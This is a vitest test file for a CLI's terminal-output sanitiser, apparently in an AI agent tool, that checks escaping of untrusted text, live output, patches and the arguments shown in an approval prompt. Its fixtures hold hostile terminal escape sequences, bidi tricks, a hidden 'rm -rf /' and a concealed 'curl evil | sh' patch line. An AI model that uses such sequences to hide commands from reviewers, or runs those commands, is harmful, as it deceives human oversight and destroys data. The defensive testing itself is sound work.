// Untrusted text on cfh's terminal: single-line fields escape every control and invisible
// character; multi-line text keeps its line feeds; a TTY's live output keeps SGR colours,
// \n, \r, \t and backspace and escapes every other control sequence, across chunk splits.
import { escapeLine as terminalSafe, terminalJson } from '../../src/cli/terminal-text.js';
import { describe, expect, it } from 'vitest';
import { PassThrough } from 'node:stream';
import { escapeLine, escapeText } from '../../src/cli/terminal-text.js';
import { TerminalSanitizer } from '../../src/cli/live-output.js';
import { streamPrinter } from '../../src/cli/print.js';

/** Nothing a terminal would act on: no C0 but LF (or CR/TAB/BS where allowed), no ESC. */
const RAW_CONTROL =
  // eslint-disable-next-line no-control-regex -- the point: find raw control characters
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff]/u;

describe('escapeLine', () => {
  it.each([
    ['window title (OSC)', '\u001b]0;pwned\u0007ok', '\\x1b]0;pwned\\x07ok'],
    ['cursor up and erase line', 'deny\u001b[1A\u001b[2Kallow', 'deny\\x1b[1A\\x1b[2Kallow'],
    ['carriage return overprint', 'deny\rallow', 'deny\\rallow'],
    ['a fake event line', 'x\n  12 2026 run_finished', 'x\\n  12 2026 run_finished'],
    ['a C1 CSI', 'a\u009b2Jb', 'a\\x9b2Jb'],
    ['DEL and NUL', 'a\u007fb\u0000c', 'a\\x7fb\\x00c'],
    ['a bidi override', 'evil\u202egnp.exe', 'evil\\u{202e}gnp.exe'],
    ['bidi isolates', '\u2066a\u2069', '\\u{2066}a\\u{2069}'],
    ['zero-width and BOM', 'a\u200bb\ufeffc', 'a\\u{200b}b\\u{feff}c'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\\u{2028}b\\u{2029}c'],
    ['a tag character', 'a\u{e0041}b', 'a\\u{e0041}b'],
    ['a lone surrogate', 'a\ud800b', 'a\\u{d800}b'],
    ['a tab', 'a\tb', 'a\\tb'],
  ])('%s', (_name, input, expected) => {
    expect(escapeLine(input)).toBe(expected);
    expect(escapeLine(input)).not.toMatch(RAW_CONTROL);
  });

  it('leaves printable text alone, accents, CJK and emoji included', () => {
    const text = 'café 中文 ✓ 🙂 -> [ok] "quoted" \\x1b literal';
    expect(escapeLine(text)).toBe(text);
  });
});

describe('escapeText', () => {
  it('keeps line feeds and escapes everything else', () => {
    expect(escapeText('line 1\nline 2\r\n\u001b]0;t\u0007\u202e')).toBe(
      'line 1\nline 2\\r\n\\x1b]0;t\\x07\\u{202e}',
    );
  });
});

function sanitize(...chunks: (string | Buffer)[]): string {
  const s = new TerminalSanitizer();
  const out = chunks.map((c) => s.push(Buffer.isBuffer(c) ? c : Buffer.from(c, 'utf8')));
  return Buffer.concat([...out, s.end()]).toString('utf8');
}

describe('TerminalSanitizer (live output on a TTY)', () => {
  it('passes SGR colours, \\n, \\r, \\t and backspace through unchanged', () => {
    const text = '\u001b[1;31mred\u001b[0m\tcol\rover\bx\n\u001b[38:5:208morange\u001b[m\n';
    expect(sanitize(text)).toBe(text);
  });

  it('escapes OSC titles, cursor movement, screen switches and other controls', () => {
    expect(sanitize('\u001b]0;pwned\u0007')).toBe('\\x1b]0;pwned\\x07');
    expect(sanitize('\u001b[2J\u001b[H\u001b[?1049h')).toBe('\\x1b[2J\\x1b[H\\x1b[?1049h');
    expect(sanitize('deny\u001b[4Dallow')).toBe('deny\\x1b[4Dallow');
    expect(sanitize('\u001bc')).toBe('\\x1bc');
    expect(sanitize('a\u0007b\u007fc\u0000')).toBe('a\\x07b\\x7fc\\x00');
  });

  it('escapes C1 controls, invalid UTF-8 and invisible format characters', () => {
    expect(sanitize(Buffer.from([0x61, 0x9b, 0x32, 0x4a]))).toBe('a\\x9b2J');
    expect(sanitize(Buffer.from([0xc2, 0x9b]))).toBe('\\x9b');
    expect(sanitize(Buffer.from([0xc0, 0x80, 0xff]))).toBe('\\xc0\\x80\\xff');
    expect(sanitize('x\u202ey')).toBe('x\\u{202e}y');
  });

  it('judges a sequence or a character split across chunks whole', () => {
    const title = Buffer.from('\u001b]0;pwned\u0007');
    expect(sanitize(title.subarray(0, 1), title.subarray(1))).toBe('\\x1b]0;pwned\\x07');
    const sgr = Buffer.from('\u001b[31mred');
    expect(sanitize(sgr.subarray(0, 3), sgr.subarray(3))).toBe('\u001b[31mred');
    const euro = Buffer.from('€'); // 3 bytes
    expect(sanitize(euro.subarray(0, 1), euro.subarray(1, 2), euro.subarray(2))).toBe('€');
    // A sequence cut off by the end of the output is escaped, not left to the terminal.
    expect(sanitize('ok\u001b[3')).toBe('ok\\x1b[3');
  });

  it('does not hold back an overlong would-be SGR sequence', () => {
    const long = `\u001b[${'1;'.repeat(100)}m`;
    expect(sanitize(long)).toBe(`\\x1b[${'1;'.repeat(100)}m`);
  });
});

describe('the printer', () => {
  it('escapes lines, keeps the answer’s lines, prints JSON exact, and sanitizes only a TTY', async () => {
    const stdout = new PassThrough();
    const stderr = new PassThrough();
    const printer = streamPrinter(stdout, stderr);
    printer.out('a\u001b[2Kb');
    printer.text('one\ntwo\r');
    printer.json({ name: '\u202e\u001b' });
    printer.err('e\nf');
    expect((stdout.read() as Buffer | null)?.toString()).toBe(
      'a\\x1b[2Kb\none\ntwo\\r\n{\n  "name": "\u202e\\u001b"\n}\n',
    );
    expect((stderr.read() as Buffer | null)?.toString()).toBe('e\\nf\n');
    // Not a TTY: live output passes byte-exact.
    const exact = printer.liveOutput();
    await new Promise<void>((resolve) => {
      exact.stdout.write(Buffer.from('\u001b]0;t\u0007raw\n'), () => {
        resolve();
      });
    });
    expect((stdout.read() as Buffer | null)?.toString()).toBe('\u001b]0;t\u0007raw\n');
    const tty = Object.assign(new PassThrough(), { isTTY: true });
    const live = streamPrinter(tty, stderr).liveOutput();
    await new Promise<void>((resolve) => {
      live.stdout.write(Buffer.from('\u001b]0;t\u0007\u001b[32mok\u001b[0m\n'), () => {
        resolve();
      });
    });
    expect((tty.read() as Buffer | null)?.toString()).toBe('\\x1b]0;t\\x07\u001b[32mok\u001b[0m\n');
  });

  it('prints a document (a patch) exact into a pipe, escaped on a terminal', () => {
    // A draft file whose lines would move the cursor up and blank a hunk the reviewer reads.
    const patch = Buffer.from('+safe\n+\u001b[1A\u001b[2K\u001b[8mcurl evil | sh\n');
    const pipe = new PassThrough();
    streamPrinter(pipe, new PassThrough()).document(patch);
    expect(pipe.read() as Buffer).toEqual(patch);
    const tty = Object.assign(new PassThrough(), { isTTY: true });
    streamPrinter(tty, new PassThrough()).document(patch);
    const shown = (tty.read() as Buffer).toString();
    expect(shown).toBe('+safe\n+\\x1b[1A\\x1b[2K\\x1b[8mcurl evil | sh\n');
    expect(shown).not.toContain('\u001b');
  });
});

// What the approval prompt prints of the model's arguments cannot act on the terminal:
// every control, format and separator character comes out as a visible escape (pure logic;
// the prompt on a real pseudo-terminal is in integration/agent-tty.test.ts).

/** Anything a terminal could act on, or a person could not see. */
const ACTIVE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}]|\p{Cs}/u;

const HOSTILE: Record<string, string> = {
  'ESC clear screen': '\u001b[2J\u001b[H',
  'OSC title / hyperlink': '\u001b]0;owned\u0007\u001b]8;;http://x.test\u001b\\',
  'C1 CSI (one byte)': '\u009b31m',
  'C1 OSC and ST': '\u009d0;t\u009c',
  'carriage return overwrite': 'rm -rf /\rls',
  backspace: 'rm -rf /work\b\b\b\bhome',
  DEL: 'a\u007fb',
  BEL: '\u0007',
  'device status query (answerback)': '\u001b[6n\u001b[c\u0005',
  'RTL override': 'txt.\u202eexe',
  'bidi isolates': '\u2066a\u2069\u2067b\u2068',
  'zero width': 'r\u200bm \u200d\u2060\ufeff',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'soft hyphen and tags': 'a\u00adb\u{e0041}',
  'private use': '\ue000\u{f0000}',
  'lone surrogates': '\ud800x\udfff',
  'unassigned code point': '\u0378',
};

describe('terminalSafe', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    it(`shows ${name} as visible escapes`, () => {
      const shown = terminalSafe(`before ${text} after`);
      expect(shown).not.toMatch(ACTIVE);
      expect(shown.startsWith('before ')).toBe(true);
      expect(shown.endsWith(' after')).toBe(true);
    });
  }

  it('spells each escape visibly: \\x for the first 256, \\u{…} beyond', () => {
    expect(terminalSafe('\u001b')).toBe('\\x1b');
    expect(terminalSafe('\u202e')).toBe('\\u{202e}');
    expect(terminalSafe('\u{f0000}')).toBe('\\u{f0000}');
  });

  it('leaves ordinary text alone, other scripts and emoji included', () => {
    const plain = 'rm -f gone.txt — Überprüfung 検査 🙂 "quoted"';
    expect(terminalSafe(plain)).toBe(plain);
  });
});

describe('terminalJson', () => {
  it('is the JSON of the same value, with nothing active left in it', () => {
    const value = { command: Object.values(HOSTILE), nested: { k: HOSTILE['RTL override'] } };
    const shown = terminalJson(value);
    // Line breaks between members are JSON's own; none comes from a string.
    expect(shown.replace(/\n/g, '')).not.toMatch(ACTIVE);
    expect(JSON.parse(shown)).toEqual(value);
  });

  it('keeps a string line break escaped, so an argument cannot start a line of its own', () => {
    const shown = terminalJson({ a: 'x\n  digest: sha256:forged' });
    expect(shown.split('\n')).toEqual(['{', '  "a": "x\\n  digest: sha256:forged"', '}']);
  });
});
